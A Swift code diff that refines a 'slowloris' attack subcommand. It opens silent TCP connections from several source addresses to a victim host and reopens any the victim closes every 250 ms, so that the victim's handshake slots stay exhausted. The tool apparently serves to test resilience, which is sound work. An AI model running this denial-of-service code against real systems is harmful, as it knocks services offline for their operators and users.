@@ -74,10 +74,13 @@ struct AttackCommand: ParsableCommand {
     }
 
     /// Silent TCP connections from several source addresses, `--per-address` each, all renewed every `--renew`
-    /// seconds (before a 5 s handshake timeout): they hold the victim's handshake slots while sending nothing.
+    /// seconds (before a 5 s handshake timeout): they hold the victim's handshake slots while sending nothing. A
+    /// connection the victim closes (refused, evicted, timed out) is opened again at the next top-up, every 250 ms,
+    /// so the attack holds as many slots as the victim lets it.
     struct Slowloris: ParsableCommand {
         static let configuration = CommandConfiguration(
-            commandName: "slowloris", abstract: "Hold handshake slots with silent connections.")
+            commandName: "slowloris", abstract: "Hold handshake slots with silent connections.",
+            discussion: "Prints `slowloris: N connections opened in S s, M closed by the victim`.")
 
         @Option(help: ArgumentHelp("The victim.", valueName: "HOST:PORT")) var peer: String
         @Option(help: ArgumentHelp("Source addresses of this host, comma-separated.", valueName: "ADDRESSES"))
@@ -89,42 +92,46 @@ struct AttackCommand: ParsableCommand {
         func run() throws {
             guard let address = PeerAddress(peer) else { throw ValidationError("--peer takes HOST:PORT") }
             let sources = from.split(separator: ",").map(String.init)
-            var open = [Int32]()
+            var open = [(source: String, fd: Int32)]()
             var opened = 0
             var closedByVictim = 0
-            func renewAll() {
-                for fd in open { Glibc.close(fd) }
-                open = []
+            func topUp() {
                 for source in sources {
-                    for _ in 0..<perAddress {
-                        if let fd = try? RawLink.connect(host: address.host, port: address.port, source: source) {
-                            open.append(fd)
-                            opened += 1
-                        }
+                    for _ in open.filter({ $0.source == source }).count..<perAddress {
+                        guard let fd = try? RawLink.connect(host: address.host, port: address.port, source: source)
+                        else { continue }
+                        open.append((source, fd))
+                        opened += 1
                     }
                 }
             }
             let start = ContinuousClock.now
-            renewAll()
+            topUp()
             print("slowloris: \(open.count) silent connections open")
             fflush(nil)
             var renewedAt = start
+            var toppedUpAt = start
             while ContinuousClock.now - start < .seconds(seconds) {
                 usleep(50_000)
                 // A connection the victim closed reads as the end of the stream (or a reset).
-                open = open.filter { fd in
-                    guard let bytes = try? RawLink.read(fd, wait: .zero), bytes.isEmpty else { return true }
-                    Glibc.close(fd)
+                open = open.filter { connection in
+                    guard let bytes = try? RawLink.read(connection.fd, wait: .zero), bytes.isEmpty else { return true }
+                    Glibc.close(connection.fd)
                     closedByVictim += 1
                     return false
                 }
                 if ContinuousClock.now - renewedAt >= .seconds(renew) {
                     renewedAt = ContinuousClock.now
-                    renewAll()
+                    for connection in open { Glibc.close(connection.fd) }
+                    open = []
+                }
+                if ContinuousClock.now - toppedUpAt >= .milliseconds(250) || open.isEmpty {
+                    toppedUpAt = ContinuousClock.now
+                    topUp()
                 }
             }
-            for fd in open { Glibc.close(fd) }
-            print("slowloris: \(opened) connections opened in \(elapsed(since: start)) s, \(closedByVictim) closed by the victim before their renewal")
+            for connection in open { Glibc.close(connection.fd) }
+            print("slowloris: \(opened) connections opened in \(elapsed(since: start)) s, \(closedByVictim) closed by the victim")
         }
     }
 
